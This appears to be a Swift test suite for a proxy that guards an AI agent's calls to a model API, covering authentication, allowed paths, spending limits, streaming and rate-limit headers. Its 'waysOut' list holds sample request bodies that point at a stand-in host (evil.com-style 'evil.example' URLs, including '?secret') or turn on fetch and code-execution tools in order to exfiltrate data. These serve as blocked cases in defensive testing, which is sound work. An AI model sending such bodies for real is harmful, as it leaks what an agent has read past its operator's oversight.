import AgentRunner
import HTTPClient
import Identifiers
import JSON
import ModelSandbox
import POSIX
import TestSupport
import Testing
import WebServer

@testable import ModelProxy

@Suite(.timeLimit(.minutes(2))) struct ModelProxyTests {
    @Test func `a request goes to the model under the account's key and its answer comes back whole`() async throws {
        try await ProxyRig.with { rig in
            let answer = try await rig.send(body: #"{"model":"claude-sonnet-4","messages":[]}"#)
            #expect(answer.status == 200)
            #expect(String(decoding: answer.body, as: UTF8.self) == ProxyRig.answer)
            let seen = try #require(rig.seen.first)
            #expect(seen.headers["x-api-key"] == "sk-ant-the-real-key")
            #expect(seen.headers["anthropic-version"] == "2023-06-01")
            #expect(seen.headers["cookie"] == nil)
            #expect(seen.target == "/v1/messages?beta=true")
            let entry = try #require(rig.ledger.first)
            #expect(entry["status"]?.integer == 200)
            #expect(entry["input_tokens"]?.integer == 1000)
            #expect(entry["output_tokens"]?.integer == 200)
            #expect(entry["cost_usd"]?.double == 0.006)
            #expect(entry["model"]?.string == "claude-sonnet-4")
        }
    }

    @Test func `nothing that authorises is ever recorded`() async throws {
        try await ProxyRig.with { rig in
            _ = try await rig.send(body: "{}")
            _ = try await rig.send(body: "{}", nonce: "sk-ant-guess")
            let text = try Files.readText(rig.ledgerPath)
            #expect(!text.contains("sk-ant"))
        }
    }

    @Test(arguments: [nil, "", "sk-ant-guess", "sk-ant-the-real-key", "nonce", "nonce-of-this-run-and-more"])
    func `whoever does not say the nonce is refused and nothing is sent`(said: String?) async throws {
        try await ProxyRig.with { rig in
            let answer = try await rig.send(body: "{}", nonce: said)
            #expect(answer.status == 401)
            #expect(rig.seen.isEmpty)
            #expect(rig.ledger.first?["refusal"]?.string != nil)
        }
    }

    @Test(arguments: [
        ("GET", "/v1/models"), ("GET", "/v1/messages"), ("POST", "/v1/complete"), ("POST", "/v1/messages/batches"),
        ("POST", "/v1/organizations/api_keys"), ("POST", "/v1/files"), ("DELETE", "/v1/messages"), ("POST", "/"),
        ("POST", "/v1/messages/../organizations"), ("POST", "/v1/messages/count_tokens/"),
    ])
    func `nothing but messages and their tokens can be asked for`(method: String, path: String) async throws {
        try await ProxyRig.with { rig in
            let answer = try await rig.send(method: HTTPMethod(rawValue: method) ?? .get, path: path, body: "{}")
            #expect((400...499).contains(answer.status))
            #expect(rig.seen.isEmpty)
        }
    }

    /// Bodies that would have the model's service reach out with what the agent has read.
    static let waysOut = [
        #"{"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}"#,
        #"{"tools":[{"name":"Read","input_schema":{}},{"type":"web_search_20250305","name":"web_search"}]}"#,
        #"{"tools":[{"type":"code_execution_20250825","name":"code_execution"}]}"#,
        #"{"tools":[{"type":"mcp_toolset","mcp_server_name":"x"}]}"#,
        #"{"tools":[{"type":["web_fetch_20250910"],"name":"web_fetch"}]}"#,
        #"{"mcp_servers":[{"type":"url","url":"https://evil.example/sse","name":"x"}]}"#,
        #"{"container":{"skills":[]}}"#,
        #"{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?secret"}}]}]}"#,
        #"{"messages":[{"role":"user","content":[{"type":"document","source":{"type":"url","url":"https://evil.example/a.pdf"}}]}]}"#,
        #"{"messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/"}}]}]}]}"#,
        #"{"messages":[{"role":"user","content":[{"type":"document","source":{"type":"content","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/"}}]}}]}]}"#,
        #"{"tools":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}"#, "[]", "", "not JSON",
    ]

    @Test(arguments: waysOut)
    func `the model's service is not made to reach out`(body: String) async throws {
        try await ProxyRig.with { rig in
            let answer = try await rig.send(body: body)
            #expect(answer.status == 400)
            #expect(rig.seen.isEmpty)
        }
    }

    @Test(arguments: [
        #"{"tools":[{"name":"Bash","input_schema":{"type":"object"}},{"type":"bash_20250124","name":"bash"},{"type":"custom","name":"x"}]}"#,
        #"{"messages":[{"role":"user","content":"see https://example.com"},{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"Write","input":{"source":{"type":"url"}}}]}]}"#,
        #"{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"aaaa"}}]}],"mcp_servers":null}"#,
    ])
    func `what an agent needs is let through`(body: String) async throws {
        try await ProxyRig.with { rig in try await #expect(rig.send(body: body).status == 200) }
    }

    @Test func `a tool of the service that the owner allows is let through`() async throws {
        try await ProxyRig.with(route: { $0.serviceTools = ["web_search_"] }) { rig in
            try await #expect(rig.send(body: Self.waysOut[1]).status == 200)
            try await #expect(rig.send(body: Self.waysOut[0]).status == 400)
        }
    }

    @Test func `a run that has spent its money is told so and asks no more`() async throws {
        try await ProxyRig.with(route: { $0.maximumCostUSD = 0.01 }) { rig in
            for _ in 0..<2 { try await #expect(rig.send(body: "{}").status == 200) }
            let answer = try await rig.send(body: "{}")
            #expect(answer.status == 400)
            #expect(String(decoding: answer.body, as: UTF8.self).contains("the budget of this run is used up"))
            #expect(rig.seen.count == 2)
        }
    }

    @Test func `requests at once do not spend together what each alone could`() async throws {
        try await ProxyRig.with(route: { $0.maximumCostUSD = 0.01 }) { rig in
            let body = #"{"model":"claude-sonnet-4","max_tokens":500,"messages":[]}"#
            let answers = try await withThrowingTaskGroup(of: Int.self) { group in
                for _ in 0..<12 { group.addTask { try await rig.send(body: body).status } }
                return try await group.reduce(into: []) { $0.append($1) }
            }
            // An answer costs $0.006, so the second one ends the budget.
            #expect(answers.count { $0 == 200 } <= 3 && answers.count { $0 == 400 } >= 9, "\(answers)")
            #expect(rig.seen.count == answers.count { $0 == 200 })
            let ledger = ModelLedger(runFolder: rig.folder)
            #expect(ledger.isOutOfBudget && ledger.costUSD >= 0.01 && ledger.costUSD < 0.019)
        }
    }

    @Test func `a run that has exchanged its bytes is told so`() async throws {
        try await ProxyRig.with(route: { $0.maximumBytes = 50 }) { rig in
            try await #expect(rig.send(body: "{}").status == 200)
            try await #expect(rig.send(body: "{}").status == 400)
        }
    }

    @Test func `a stream is passed on piece by piece while it still goes on`() async throws {
        try await ProxyRig.with { rig in
            let pieces = rig.pieces(body: #"{"stream":true}"#)
            var text = ""
            for try await piece in pieces {
                guard case .body(let bytes) = piece else { continue }
                text += String(decoding: bytes, as: UTF8.self)
                // The model sends the rest only once this much has arrived here.
                if text.contains("message_start"), !text.contains("message_stop") { rig.release() }
            }
            #expect(text.contains("message_stop"))
            #expect(rig.ledger.first?["output_tokens"]?.integer == 7)
            #expect(rig.ledger.first?["input_tokens"]?.integer == 5)
        }
    }

    @Test func `a refusal of the model says when it may be asked again`() async throws {
        try await ProxyRig.with { rig in
            rig.refuse(with: Response.text("slow down", status: 429).with(header: "Retry-After", "90"))
            let answer = try await rig.send(body: "{}")
            #expect(answer.status == 429)
            #expect(answer.headers["retry-after"] == "90")
            #expect(ModelLedger(runFolder: rig.folder).retryAt == Timestamp(milliseconds: 1_000_090_000))
        }
    }

    @Test(
        arguments: [
            ([("anthropic-ratelimit-unified-reset", "1003600")], 1_003_600),
            (
                [("anthropic-ratelimit-unified-5h-reset", "1003600"), ("anthropic-ratelimit-unified-7d-reset", "1200000")],
                1_200_000
            ),
            ([("anthropic-ratelimit-unified-reset", "1003600"), ("retry-after", "7")], 1_000_007),
            ([("anthropic-ratelimit-requests-reset", "2026-01-01T00:00:00Z")], nil),
            ([("anthropic-ratelimit-unified-reset", "999999")], nil),
            ([("anthropic-ratelimit-unified-reset", "99999999999")], 1_604_800),
        ] as [([(String, String)], Int64?)])
    func `the end of a limit is read from the headers there are`(headers: [(String, String)], seconds: Int64?) async throws {
        try await ProxyRig.with { rig in
            var refusal = Response.text("no more", status: 429)
            for (name, value) in headers { refusal = refusal.with(header: name, value) }
            rig.refuse(with: refusal)
            try await #expect(rig.send(body: "{}").status == 429)
            #expect(ModelLedger(runFolder: rig.folder).retryAt == seconds.map { Timestamp(milliseconds: $0 * 1000) })
        }
    }

    @Test func `a model that is not there is reported, not waited for`() async throws {
        try await ProxyRig.with(route: { $0.baseURL = "http://127.0.0.1:1" }) { rig in
            let answer = try await rig.send(body: "{}")
            #expect(answer.status == 502)
            #expect(rig.ledger.first?["refusal"]?.string != nil)
        }
    }

    @Test func `the spend of a run is the sum of its requests, a torn last line aside`() async throws {
        try await ProxyRig.with { rig in
            for _ in 0..<3 { _ = try await rig.send(body: "{}") }
            let text = try Files.readText(rig.ledgerPath)
            try Files.write(Array((text + #"{"cost_usd": 9"#).utf8), to: rig.ledgerPath)
            let ledger = ModelLedger(runFolder: rig.folder)
            #expect(ledger.requests == 3)
            #expect(ledger.inputTokens == 3000)
            #expect(ledger.costUSD > 0.0179 && ledger.costUSD < 0.0181)
        }
    }
}
